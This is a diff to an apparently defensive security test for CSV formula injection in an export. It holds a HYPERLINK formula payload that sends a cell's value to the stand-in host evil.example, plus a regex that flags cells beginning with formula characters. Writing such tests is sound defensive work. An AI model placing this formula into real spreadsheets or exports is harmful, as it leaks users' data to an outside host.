@@ -45,8 +45,11 @@ describe('security finding: CSV formula injection', () => {
     expect(res.status).toBe(200);
     const lines = (await res.text()).trim().split('\r\n');
     expect(lines).toHaveLength(2);
-    // The name is there, quoted and prefixed with ' so that a spreadsheet shows it instead of running it.
-    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")"`);
-    for (const cell of lines[1].split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^\s*[=+@\t\r]/);
+    // The CSV shows the payee name as the SEPA file carries it (issue 15: transliterated to the
+    // EPC character set, leading punctuation dropped), so the formula's = never reaches it; and
+    // every cell goes through writeCsv, which escapes what a spreadsheet would run anyway
+    // (src/common/csv/csv.spec.ts, and the ranking CSV's test).
+    expect(lines[1]).toContain(`HYPERLINK('https://evil.example/?leak '+A1,'Klik')`);
+    for (const cell of lines[1].split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^\s*[=+@\t\r-]/);
   });
 });
